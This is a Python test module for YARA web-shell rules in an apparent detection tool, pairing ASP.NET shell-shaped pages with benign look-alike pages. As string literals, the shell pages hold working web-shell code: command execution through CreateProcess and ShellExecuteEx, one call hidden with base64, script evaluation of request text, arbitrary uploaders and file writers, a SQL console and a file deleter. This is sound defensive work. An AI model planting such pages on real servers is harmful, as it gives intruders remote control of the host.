"""YARA rules for shells only the behaviour analysis found (issue 14, helper X49, session 20).

The behaviour analysis and the YARA rules are two nets; a shell only one of them catches is one engine change
away from a miss. X45's first-sight collection (session 19) held nine pages found by the behaviour analysis
alone, each now named by a rule as well:

* a P/Invoke of CreateProcess or ShellExecuteEx ("runas", hidden), or a delegate over GetProcAddress's pointer
  (``EXT_WEBSHELL_Page_Starts_Process_Through_Native_Call``, ``data/rules/native_process_calls.yar``);
* ``CSharpScript.EvaluateAsync`` of a query-string value in a WebForms page
  (``EXT_WEBSHELL_Page_Evaluates_Script_Text``, ``data/rules/script_runners.yar``);
* a Behinder-style loader with every name spelled as ``\\u00XX`` escapes
  (``EXT_WEBSHELL_Escaped_Identifiers_In_Server_Code``, ``data/rules/obfuscated_server_code.yar``);
* directive-less one-line uploaders saving to ``MapPath(Request("f"))``
  (``EXT_WEBSHELL_Upload_Saved_To_Request_Path``, ``data/rules/uploaders.yar``);
* HUC08's password-gated writer, ``new StreamWriter(txtPath.Text)``
  (``EXT_WEBSHELL_Writes_File_At_Typed_Path``, ``data/rules/file_writers.yar``);
* an MSSQL console signing in to a typed server and running a typed query
  (``EXT_WEBSHELL_SQL_Console_Typed_Server_And_Query``, ``data/rules/sql_consoles.yar``);
* the LT file manager's code-behind ``.cs`` (``EXT_WEBSHELL_File_Manager`` now takes a class deriving from Page).

The pages below are harmless files in those shapes, written here (nothing is compiled or run; no test sends a
request), and none is a copy of a collected page. Each rule's ordinary pages are the nearest everyday ones.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, quiet_pages_test, rule_tables, yara_rules

_NATIVE = "EXT_WEBSHELL_Page_Starts_Process_Through_Native_Call"
_SCRIPT = "EXT_WEBSHELL_Page_Evaluates_Script_Text"
_ESCAPED = "EXT_WEBSHELL_Escaped_Identifiers_In_Server_Code"
_UPLOAD = "EXT_WEBSHELL_Upload_Saved_To_Request_Path"
_WRITER = "EXT_WEBSHELL_Writes_File_At_Typed_Path"
_SQL = "EXT_WEBSHELL_SQL_Console_Typed_Server_And_Query"
_FILES = "EXT_WEBSHELL_File_Manager"

_CS = '<%@ Page Language="C#" %>\n<script runat="server">\n{}\n</script>\n'
_VB = '<%@ Page Language="VB" %>\n<script runat="server">\n{}\n</script>\n'

NATIVE: list[Page] = [
    (
        "cs-createprocess-extern",
        ".aspx",
        _CS.format(
            '[System.Runtime.InteropServices.DllImport("kernel32.dll", CharSet = System.Runtime.InteropServices'
            ".CharSet.Unicode)]\n"
            "static extern bool CreateProcessW(string app, string line, IntPtr pa, IntPtr ta, bool inherit,\n"
            "    uint flags, IntPtr env, string dir, byte[] si, byte[] pi);\n"
            "void Page_Load(object s, EventArgs e) {\n"
            '  string c = Request.QueryString["c"];\n'
            '  if (c != null) CreateProcessW(null, "cmd.exe /c " + c, IntPtr.Zero, IntPtr.Zero, false, 0,'
            " IntPtr.Zero, null, new byte[68], new byte[16]);\n}"
        ),
    ),
    (
        "vb-shellexecuteex-declare-runas",
        ".aspx",
        _VB.format(
            'Private Declare Unicode Function ShellExecuteEx Lib "shell32.dll" (ByRef info As ExecInfo) As Boolean\n'
            "Structure ExecInfo\n  Public cbSize As Integer : Public lpVerb As String : Public lpFile As String\n"
            "  Public lpParameters As String : Public nShow As Integer\nEnd Structure\n"
            "Sub Page_Load(s As Object, e As EventArgs)\n"
            '  Dim i As New ExecInfo() : i.lpVerb = "runas" : i.lpFile = "cmd.exe"\n'
            '  i.lpParameters = "/c " & Request.Form("c") : i.nShow = 0\n  ShellExecuteEx(i)\nEnd Sub'
        ),
    ),
    (
        "cs-delegate-over-procaddress",
        ".aspx",
        _CS.format(
            "delegate bool CreateProcessCall(string a, string c, IntPtr p, IntPtr t, bool i, uint f, IntPtr e,"
            " string d, byte[] si, byte[] pi);\n"
            '[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr LoadLibrary(string n);\n'
            '[System.Runtime.InteropServices.DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr m,'
            " string n);\n"
            "void Page_Load(object s, EventArgs e) {\n"
            '  IntPtr f = GetProcAddress(LoadLibrary(Decode("a2VybmVsMzI=")), Decode("Q3JlYXRlUHJvY2Vzc0E="));\n'
            "  var run = (CreateProcessCall)System.Runtime.InteropServices.Marshal.GetDelegateForFunctionPointer("
            "f, typeof(CreateProcessCall));\n"
            '  run(null, "cmd.exe /c " + Request["c"], IntPtr.Zero, IntPtr.Zero, false, 0, IntPtr.Zero, null,'
            " new byte[68], new byte[16]);\n}\n"
            "string Decode(string b) { return System.Text.Encoding.ASCII.GetString(Convert.FromBase64String(b)); }"
        ),
    ),
]

NATIVE_ORDINARY: list[Page] = [
    (
        "cs-disk-space-pinvoke",
        ".aspx",
        _CS.format(
            '[System.Runtime.InteropServices.DllImport("kernel32.dll", SetLastError = true)]\n'
            "static extern bool GetDiskFreeSpaceEx(string d, out ulong free, out ulong total, out ulong all);\n"
            "void Page_Load(object s, EventArgs e) {\n"
            "  ulong f, t, a;\n"
            '  GetDiskFreeSpaceEx(Server.MapPath("~/"), out f, out t, out a);\n'
            '  Free.Text = (f / 1048576).ToString() + " MB";\n}'
        )
        + '<asp:Label ID="Free" runat="server" />\n',
    ),
    (
        # a class library's interop declarations: no page, compiled into the site's assembly
        "cs-native-methods-class",
        ".cs",
        "using System;\nusing System.Runtime.InteropServices;\n\n"
        "internal static class NativeMethods\n{\n"
        '    [DllImport("kernel32.dll", SetLastError = true, CharSet = CharSet.Unicode)]\n'
        "    internal static extern bool CreateProcessW(string app, string line, IntPtr pa, IntPtr ta,\n"
        "        bool inherit, uint flags, IntPtr env, string dir, byte[] si, byte[] pi);\n}\n",
    ),
    (
        "cs-process-start-of-a-fixed-tool",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            '  var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(@"C:\\Tools\\'
            'report.exe") { UseShellExecute = false, RedirectStandardOutput = true });\n'
            "  Out.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());\n}"
        )
        + '<asp:Literal ID="Out" runat="server" />\n',
    ),
]

SCRIPTS: list[Page] = [
    (
        "cs-evaluate-query-value",
        ".aspx",
        '<%@ Page Language="C#" Async="true" %>\n<%@ Import Namespace="Microsoft.CodeAnalysis.CSharp.Scripting" %>\n'
        '<script runat="server">\nprotected async void Page_Load(object s, EventArgs e) {\n'
        '  string code = Request.QueryString["code"];\n'
        "  if (!string.IsNullOrEmpty(code)) { var r = await CSharpScript.EvaluateAsync(code); "
        "Response.Write(Server.HtmlEncode(r + \"\")); }\n}\n</script>\n",
    ),
    (
        "vb-run-text-box",
        ".aspx",
        _VB.format(
            "Async Sub Run_Click(s As Object, e As EventArgs)\n"
            "  Dim r = Await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.RunAsync(Code.Text)\n"
            "  Result.Text = Server.HtmlEncode(CStr(r.ReturnValue))\nEnd Sub"
        )
        + '<form runat="server"><asp:TextBox ID="Code" TextMode="MultiLine" runat="server" />'
        '<asp:Button OnClick="Run_Click" Text="Run" runat="server" /><asp:Label ID="Result" runat="server" /></form>\n',
    ),
]

SCRIPT_ORDINARY: list[Page] = [
    (
        # a fixed formula written into the page, a request value only as its number
        "cs-fixed-formula-evaluated",
        ".aspx",
        '<%@ Page Language="C#" Async="true" %>\n<script runat="server">\n'
        "protected async void Page_Load(object s, EventArgs e) {\n"
        '  int n; int.TryParse(Request.QueryString["n"], out n);\n'
        '  var total = await Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript.EvaluateAsync<int>("6 * 7");\n'
        "  Response.Write(total + n);\n}\n</script>\n",
    ),
]

_ESC_BODY = (
    "Session.\\u0041\\u0064\\u0064(\"k\", \"0123456789abcdef\");\n"
    "byte[] k = \\u0045\\u006e\\u0063\\u006f\\u0064\\u0069\\u006e\\u0067.\\u0044\\u0065\\u0066\\u0061\\u0075"
    "\\u006c\\u0074.\\u0047\\u0065\\u0074\\u0042\\u0079\\u0074\\u0065\\u0073(Session[0] + \"\");\n"
    "byte[] c = \\u0052\\u0065\\u0071\\u0075\\u0065\\u0073\\u0074.\\u0042\\u0069\\u006e\\u0061\\u0072\\u0079"
    "\\u0052\\u0065\\u0061\\u0064(Request.ContentLength);\n"
    "Response.\\u0057\\u0072\\u0069\\u0074\\u0065(c.Length + k.Length);\n"
)

ESCAPED: list[Page] = [
    ("cs-escaped-names-code-block", ".aspx", '<%@ Page Language="C#" %><%' + _ESC_BODY + "%>\n"),
    ("cs-escaped-names-handler", ".ashx",
     '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\nusing System.Text;\n'
     "public class H : IHttpHandler, System.Web.SessionState.IRequiresSessionState {\n"
     "  public bool IsReusable { get { return false; } }\n"
     "  public void ProcessRequest(HttpContext context) {\n"
     "    var Session = context.Session; var Request = context.Request; var Response = context.Response;\n"
     + _ESC_BODY + "  }\n}\n"),
]  # fmt: skip

ESCAPED_ORDINARY: list[Page] = [
    (
        # escaped letters in string literals (a JSON island, a C# literal kept ASCII-only)
        "cs-escapes-in-literals",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        'const string Title = "\\u0048\\u0065\\u006c\\u006c\\u006f";\n'
        'void Page_Load(object s, EventArgs e) { Head.Text = Title + "\\u0021"; }\n</script>\n'
        '<asp:Literal ID="Head" runat="server" />\n<script type="application/json" id="i18n">\n'
        '{"greet": "\\u0048\\u0065\\u006c\\u006c\\u006f", "bye": "\\u0042\\u0079\\u0065", '
        '"ok": "\\u004f\\u004b", "no": "\\u004e\\u006f"}\n</script>\n',
    ),
]

UPLOADS: list[Page] = [
    (
        "vb-one-line-no-directive",
        ".aspx",
        '<% If Request.Files.Count <> 0 Then Request.Files(0).SaveAs(Server.MapPath(Request("f")) ) %>',
    ),
    (
        "cs-form-path",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Request.Form["to"]); %>\n'
        '<form method="post" enctype="multipart/form-data"><input type="file" name="u" /><input name="to" /></form>\n',
    ),
    (
        "vb-path-from-posted-stream",
        ".aspx",
        _VB.format(
            "Sub Page_Load(sender As Object, e As EventArgs)\n"
            "  Request.Files(0).SaveAs(AppDomain.CurrentDomain.BaseDirectory & "
            "New System.IO.StreamReader(Request.Files(1).InputStream).ReadToEnd())\nEnd Sub"
        ),
    ),
]

UPLOAD_ORDINARY: list[Page] = [
    (
        # a member's picture kept under its id, the extension fixed by the page
        "cs-picture-by-id",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            "  if (Pic.HasFile) { int id = int.Parse(Request.QueryString[\"id\"]);\n"
            '    Pic.PostedFile.SaveAs(Server.MapPath("~/App_Data/pictures/" + id + ".jpg")); }\n}'
        )
        + '<form runat="server"><asp:FileUpload ID="Pic" runat="server" /></form>\n',
    ),
    (
        "vb-renamed-upload",
        ".aspx",
        _VB.format(
            "Sub Save_Click(sender As Object, e As EventArgs)\n"
            '  Dim name As String = Guid.NewGuid().ToString("N") & ".pdf"\n'
            '  Doc.SaveAs(Server.MapPath("~/App_Data/docs/") & name)\n'
            '  Log(Request.Form("title"))\nEnd Sub\nSub Log(t As String)\nEnd Sub'
        )
        + '<form runat="server"><asp:FileUpload ID="Doc" runat="server" /></form>\n',
    ),
]

WRITERS: list[Page] = [
    (
        "cs-gated-text-box-writer",
        ".aspx",
        '<%@ Page Language="C#" ValidateRequest="false" %>\n<script runat="server">\n'
        "void Save_Click(object sender, EventArgs e) {\n"
        '  if ("key".Equals(this.Key.Text)) {\n'
        "    System.IO.StreamWriter w = new System.IO.StreamWriter(this.Where.Text, true, System.Text.Encoding.UTF8);\n"
        '    w.Write(this.Body.Text); w.Close(); Response.Write("ok");\n  }\n}\n</script>\n'
        '<form runat="server"><asp:TextBox ID="Key" runat="server" /><asp:TextBox ID="Where" runat="server" />'
        '<asp:TextBox ID="Body" TextMode="MultiLine" runat="server" />'
        '<asp:Button OnClick="Save_Click" Text="Save" runat="server" /></form>\n',
    ),
    (
        "vb-request-path-writer",
        ".aspx",
        _VB.format('Sub Page_Load(s As Object, e As EventArgs)\n  System.IO.File.WriteAllText(Request("p"), Request("c"))\nEnd Sub'),
    ),
    (
        "cs-html-input-writer",
        ".aspx",
        _CS.format(
            "void Page_Load(object s, EventArgs e) {\n"
            "  if (IsPostBack) System.IO.File.AppendAllText(Target.Value, Text.Value);\n}"
        )
        + '<form runat="server"><input id="Target" runat="server" /><textarea id="Text" runat="server"></textarea></form>\n',
    ),
]  # fmt: skip

WRITER_ORDINARY: list[Page] = [
    (
        "cs-export-into-own-folder",
        ".aspx",
        _CS.format(
            "void Export_Click(object s, EventArgs e) {\n"
            '  string name = System.IO.Path.GetFileName(FileName.Text) + ".csv";\n'
            '  using (var w = new System.IO.StreamWriter(Server.MapPath("~/App_Data/exports/" + name)))'
            " w.Write(Rows.Text);\n}"
        )
        + '<form runat="server"><asp:TextBox ID="FileName" runat="server" /><asp:TextBox ID="Rows" runat="server" /></form>\n',
    ),
    (
        "vb-notes-to-fixed-file",
        ".aspx",
        _VB.format(
            "Sub Save_Click(s As Object, e As EventArgs)\n"
            '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Notes.Text)\nEnd Sub'
        )
        + '<form runat="server"><asp:TextBox ID="Notes" TextMode="MultiLine" runat="server" /></form>\n',
    ),
]  # fmt: skip

_SQL_PAGE = (
    '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Data" %>\n<%@ Import Namespace="System.Data.SqlClient" %>\n'
    '<script runat="server">\nstatic string conS = "";\n'
    "DataTable Run(string query) {\n"
    "  var con = new SqlConnection(conS); var cmd = new SqlCommand();\n"
    "  cmd.CommandText = query;\n  cmd.Connection = con;\n"
    "  var da = new SqlDataAdapter(cmd); var ds = new DataSet(); da.Fill(ds); return ds.Tables[0];\n}\n"
    "void Login_Click(object s, EventArgs e) {\n"
    "  conS = \"Data Source='\" + Server1.Text + \"';Initial Catalog='\" + Db.Text + \"';User Id='\" + User1.Text"
    " + \"';Password='\" + Pass.Text + \"'\";\n}\n"
    "void Exec_Click(object s, EventArgs e) {\n  ViewState[\"q\"] = txtQuery.Text.Trim();\n"
    "  Grid.DataSource = Run((string)ViewState[\"q\"]); Grid.DataBind();\n}\n</script>\n"
    '<form runat="server"><asp:TextBox ID="Server1" runat="server" /><asp:TextBox ID="Db" runat="server" />'
    '<asp:TextBox ID="User1" runat="server" /><asp:TextBox ID="Pass" runat="server" />'
    '<asp:TextBox ID="txtQuery" Width="500px" runat="server" /><asp:GridView ID="Grid" runat="server" /></form>\n'
)

SQL_CONSOLES: list[Page] = [
    ("cs-typed-server-and-query", ".aspx", _SQL_PAGE),
    (
        "vb-typed-server-and-query",
        ".aspx",
        _VB.format(
            "Sub Go_Click(s As Object, e As EventArgs)\n"
            '  Dim cs As String = "Server=" & Host.Text & ";User ID=" & Login.Text & ";Password=" & Pwd.Text\n'
            "  Dim sql As String = SqlText.Text\n"
            "  Using con As New System.Data.SqlClient.SqlConnection(cs)\n"
            "    Dim da As New System.Data.SqlClient.SqlDataAdapter(sql, con)\n"
            "    Dim t As New System.Data.DataTable() : da.Fill(t) : Grid.DataSource = t : Grid.DataBind()\n"
            "  End Using\nEnd Sub"
        )
        + '<form runat="server"><asp:TextBox ID="Host" runat="server" /><asp:TextBox ID="Login" runat="server" />'
        '<asp:TextBox ID="Pwd" runat="server" /><asp:TextBox ID="SqlText" TextMode="MultiLine" runat="server" />'
        '<asp:GridView ID="Grid" runat="server" /></form>\n',
    ),
]

SQL_ORDINARY: list[Page] = [
    (
        # an installer: connects to the typed server and runs its own script, no query box
        "cs-installer-typed-server",
        ".aspx",
        _SQL_PAGE.replace("txtQuery.Text.Trim()", 'System.IO.File.ReadAllText(Server.MapPath("~/App_Data/schema.sql"))')
        .replace('ID="txtQuery"', 'ID="txtSqlServer"'),
    ),
    (
        # a search page: the query box's text is a parameter of the site's own query on its own connection
        "cs-search-own-connection",
        ".aspx",
        _CS.format(
            "void Find_Click(object s, EventArgs e) {\n"
            '  string sql = "select top 20 title from docs where title like @q";\n'
            '  using (var con = new System.Data.SqlClient.SqlConnection(System.Configuration.ConfigurationManager'
            '.ConnectionStrings["site"].ConnectionString)) {\n'
            "    var cmd = new System.Data.SqlClient.SqlCommand(sql, con);\n"
            '    cmd.Parameters.AddWithValue("@q", "%" + txtQuery.Text + "%");\n'
            "    con.Open(); Grid.DataSource = cmd.ExecuteReader(); Grid.DataBind();\n  }\n}"
        )
        + '<form runat="server"><asp:TextBox ID="txtQuery" runat="server" /><asp:GridView ID="Grid" runat="server" /></form>\n',
    ),
]  # fmt: skip

CASES: list[RuleCase] = [
    (_NATIVE, NATIVE, NATIVE_ORDINARY),
    (_SCRIPT, SCRIPTS, SCRIPT_ORDINARY),
    (_ESCAPED, ESCAPED, ESCAPED_ORDINARY),
    (_UPLOAD, UPLOADS, UPLOAD_ORDINARY),
    (_WRITER, WRITERS, WRITER_ORDINARY),
    (_SQL, SQL_CONSOLES, SQL_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)

#: The ordinary pages raise nothing at all: no rule and no behaviour sink (the twins of every new rule).
test_ordinary_page_raises_no_finding = quiet_pages_test(
    [*NATIVE_ORDINARY[:2], *SCRIPT_ORDINARY, *ESCAPED_ORDINARY, *UPLOAD_ORDINARY, *WRITER_ORDINARY, SQL_ORDINARY[1]]
)

_CODE_BEHIND = (
    "using System;\nusing System.IO;\nusing System.Web;\n\n"
    "public partial class Files : System.Web.UI.Page\n{\n"
    "    protected void Page_Load(object sender, EventArgs e)\n    {\n"
    '        string dir = Request.QueryString["d"] ?? Page.MapPath(".");\n'
    '        foreach (DriveInfo d in DriveInfo.GetDrives()) Drives.Text += d.Name + " ";\n'
    '        if (Request.QueryString["del"] != null) File.Delete(Request.QueryString["del"]);\n'
    '        foreach (string f in Directory.GetFiles(dir)) Listing.Text += f + "<br>";\n'
    "    }\n}\n"
)


def test_file_manager_code_behind_is_found(tmp_path: Path, params: content.ContentParams) -> None:
    """A page's code-behind file (its class derives from Page, C# or VB) that lists drives and deletes the file
    the query string names is the file manager, as the page holding the same code is."""
    assert _FILES in yara_rules(tmp_path, "Files.aspx.cs", _CODE_BEHIND, params)
    vb = (
        "Imports System.IO\n\nPartial Class Files\n    Inherits System.Web.UI.Page\n"
        "    Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load\n"
        '        For Each d As DriveInfo In DriveInfo.GetDrives() : Drives.Text &= d.Name : Next\n'
        '        If Request.QueryString("del") <> "" Then File.Delete(Request.QueryString("del"))\n'
        '        For Each f As String In Directory.GetFiles(Request.QueryString("d")) : Listing.Text &= f : Next\n'
        "    End Sub\nEnd Class\n"
    )
    assert _FILES in yara_rules(tmp_path, "Files.aspx.vb", vb, params)


def test_ordinary_code_behind_is_not_a_file_manager(tmp_path: Path, params: content.ContentParams) -> None:
    """A code-behind listing the site's own download folder, deleting nothing the request names, and a class
    library with the file manager's code but no Page base class stay silent."""
    own = _CODE_BEHIND.replace('Request.QueryString["d"] ?? Page.MapPath(".")', 'Page.MapPath("~/downloads")')
    own = own.replace('File.Delete(Request.QueryString["del"])', 'Trace.Write("del")')
    assert own != _CODE_BEHIND
    assert _FILES not in yara_rules(tmp_path, "Downloads.aspx.cs", own, params)
    library = _CODE_BEHIND.replace(": System.Web.UI.Page", ": FileTools")
    assert _FILES not in yara_rules(tmp_path, "FileTools.cs", library, params)
